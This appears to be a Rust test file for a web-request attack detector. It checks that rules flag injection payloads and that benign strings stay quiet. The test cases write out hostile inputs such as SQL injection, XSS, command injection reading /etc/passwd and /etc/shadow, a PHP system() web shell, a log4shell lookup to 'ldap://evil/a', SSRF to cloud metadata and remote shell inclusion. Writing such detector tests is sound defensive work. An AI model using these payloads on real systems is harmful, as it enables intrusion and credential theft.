//! Tests of the attack rules across the checks.

use super::chars::single_byte_class;
use super::*;
use crate::detect::{normalize, Direction};

fn shared_rules() -> &'static Rules {
    static RULES: std::sync::OnceLock<Rules> = std::sync::OnceLock::new();
    RULES.get_or_init(Rules::new)
}

/// Bytes with keywords and the bytes of the two-byte classes mixed in.
fn keyword_soup() -> impl proptest::strategy::Strategy<Value = Vec<u8>> {
    use proptest::prelude::*;
    const WORDS: &[&str] =
        &["etc/passwd", "java.lang", "${jndi:", "<!doctype", "--", "0x", "union", "$where", "-", "0"];
    let piece = prop_oneof![
        any::<u8>().prop_map(|b| vec![b]),
        proptest::sample::select(WORDS).prop_map(|w| w.as_bytes().to_vec())
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest::proptest! {
    /// The fused pass agrees with `char_mask` and with the crate's own overlapping search,
    /// also where it stops stepping the automaton at the first keyword.
    #[test]
    fn keyword_and_mask_pass_agrees(b in keyword_soup()) {
        let Some(dfa) = shared_rules().automaton.as_ref() else { return Err(proptest::test_runner::TestCaseError::fail("no automaton")) };
        let (any, mask) = any_keyword_and_mask(dfa, &b);
        proptest::prop_assert_eq!(mask, char_mask(&b));
        let mut reference = 0;
        for (i, &c) in b.iter().enumerate() {
            reference |= single_byte_class(c);
            if i > 0 { reference |= pair_class(b[i - 1], c); }
        }
        proptest::prop_assert_eq!(mask, reference);
        proptest::prop_assert_eq!(any, overlapping(dfa, &b).next().is_some());
    }
}

fn classes(key: &str, value: &str) -> Vec<&'static str> {
    let rules = Rules::new();
    let site = Site { direction: Direction::Request, part: Part::Query, field: key, key };
    let mut out = Vec::new();
    rules.scan(site, &normalize(value), &mut |c, _, _| out.push(c));
    out
}

#[test]
fn each_class_fires() {
    let cases = [
        ("q", "1' OR '1'='1", "sqli"),
        ("q", "<script>alert(1)</script>", "xss"),
        ("q", r#"<a href="javascript:alert(1)">x</a>"#, "xss"),
        ("q", r#"<root><a probe="ja&amp;tab;vascript:alert(1)"></a></root>"#, "xss"),
        ("q", "x' LIKE 'a%", "sqli"),
        ("file", "../../../../etc/passwd", "path_traversal"),
        ("cmd", "; cat /etc/passwd", "command_injection"),
        // shell forms without a separator, and programs behind quoting tricks
        ("code", "$SHELL -c \"echo hi\"", "command_injection"),
        ("x", "c{a,oun}t /etc/hosts", "command_injection"),
        ("x", "{,ifconfig,eth0}", "command_injection"),
        ("x", "!-1!-2", "command_injection"),
        ("x", "~+", "command_injection"),
        ("x", "\\ls", "command_injection"),
        ("x", "ti''me sh -c whoami", "command_injection"),
        ("x", "a; sh$XX -c whoami", "command_injection"),
        ("x", "|$u wget test", "command_injection"),
        ("x", "time; ansible-config dump", "command_injection"),
        ("x", "perf --version", "command_injection"),
        ("x", "c99 -wrapper sh,-c,curl example.com .", "command_injection"),
        // PHP calls through expressions, obfuscated names, php.ini lines
        ("x", "(sy.(st).em)('uname');", "php_injection"),
        ("x", "\"\\x73y\\x73tem\"(ls);", "php_injection"),
        ("x", "$__[$_[1]](7)", "php_injection"),
        ("x", "FOOcall_user_func()", "php_injection"),
        ("x", "exec /*comment*/ ()", "php_injection"),
        ("x", "memory_limit = 512M", "php_injection"),
        ("x", "opcache.jit_max_polymorphic_calls=50", "php_injection"),
        // traversal with separators no decoder restores
        ("f", "..%c1%1c..%c1%1cetc%c1%1cpasswd", "path_traversal"),
        ("f", "..0x2f..0x2f..0x2fetc0x2fpasswd", "path_traversal"),
        ("f", "?.%%35%%63?.%%35%%63boot.ini", "path_traversal"),
        // statement fragments
        ("q", "UnIon seleCt\n", "sqli"),
        ("q", "EXECUTE IMMEDIATE \"", "sqli"),
        ("q", " case when a then b", "sqli"),
        ("id", "password::int", "sqli"),
        ("q", "` AS `edit_user_id` from", "sqli"),
        ("q", ";truncate[xx", "sqli"),
        ("q", "'x'!='y", "sqli"),
        ("host", "127.0.0.1; whoami", "command_injection"),
        ("x", "for /f %i in ('dir') do echo %i", "command_injection"),
        ("url", "http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("url", "gopher://127.0.0.1:6379/_INFO", "ssrf"),
        ("page", "http://66.240.183.75/shell.txt?", "rfi"),
        ("tag", "ftp://1.1.1.1", "rfi"),
        ("name", "{{7*7}}", "ssti"),
        ("name", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti"),
        ("user", "*)(uid=*))(|(uid=*", "ldap_injection"),
        ("x", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "xxe"),
        ("x", "${${lower:j}ndi:ldap://evil/a}", "log4shell"),
        ("x", "x%0d%0aSet-Cookie:%20a=b", "crlf_injection"),
        ("x", "java.lang.Runtime", "java_injection"),
        ("x", "<?php system($_GET['c']); ?>", "php_injection"),
        ("x", "O:8:\"stdClass\":0:{}", "php_injection"),
        ("x", "require('child_process').exec('id')", "code_injection"),
        ("x", "<!--#exec cmd=\"ls\" -->", "ssi_injection"),
        ("x", "' or count(/child::node())=1 or '", "xpath_injection"),
        ("x", "true, $where: '1 == 1'", "nosqli"),
        ("code", "time ifconfig", "command_injection"),
        ("x", "1; exec /bin/sh", "command_injection"),
        ("x", "@@version", "sqli"),
        ("x", "ifconfig", "command_injection"),
        ("x", "x; sudo cat /etc/shadow", "command_injection"),
        ("x", r#"<a href="../../etc/passwd">"#, "path_traversal"),
    ];
    for (key, value, class) in cases {
        let got = classes(key, value);
        assert!(got.contains(&class), "{value}: want {class}, got {got:?}");
    }
}

#[test]
fn ordinary_values_stay_quiet() {
    for value in [
        "John O'Neil",
        "42 Main St., Springfield",
        "https://www.example.com/products?id=7",
        "Meeting at 10:30; bring the slides",
        "cats & dogs",
        "{{first_name}}",
        "price: $5 (incl. tax)",
        "v1.2..1.5 range",
        "user@example.com",
        "I like cat videos",
        "curl",
        "select your plan",
        "Q&A session | 2pm",
        "a=b; c=d",
        "the system (v2) is down",
        // near misses of the rules above
        "fields={id,name}",
        "Section 5(a)(1)",
        "just in case when it rains then we stay",
        "std::string",
        "Wow!",
        "~ approx",
        "engine: v8",
        "etc. and passwd reset",
        "trade union, select committee",
        "Union Select",
        // rich text and markup from libinjection's benign list
        r#"see <a href="/apps/">the gallery</a>!"#,
        r#"pr_shop">MamaBearBabyWear</a>"#,
        r#"{% $num_views|string_format:"%d" %} vues"#,
        "FHFUIVJ[I['=\\]=-]L;/...",
        r#""LIKE" STAMP"#,
        "the file (pdf)",
        r#"junk <a href="../">foo.com</a>"#,
        "1; exec will create the case 7",
        "done; time flies",
    ] {
        let got = classes("q", value);
        assert!(got.is_empty(), "{value}: {got:?}");
    }
}

#[test]
fn names_and_protocol() {
    let rules = Rules::new();
    let mut got = Vec::new();
    rules.scan_name("user[$ne]", &mut |c, _, _| got.push(c));
    rules.scan_name("__proto__[admin]", &mut |c, _, _| got.push(c));
    assert_eq!(got, vec!["nosqli", "code_injection"]);
    let headers = [("content-length", "5"), ("content-length", "6")];
    assert!(protocol_anomaly(headers.iter().copied()).is_some());
    let headers = [("host", "a"), ("content-length", "5")];
    assert!(protocol_anomaly(headers.iter().copied()).is_none());
}
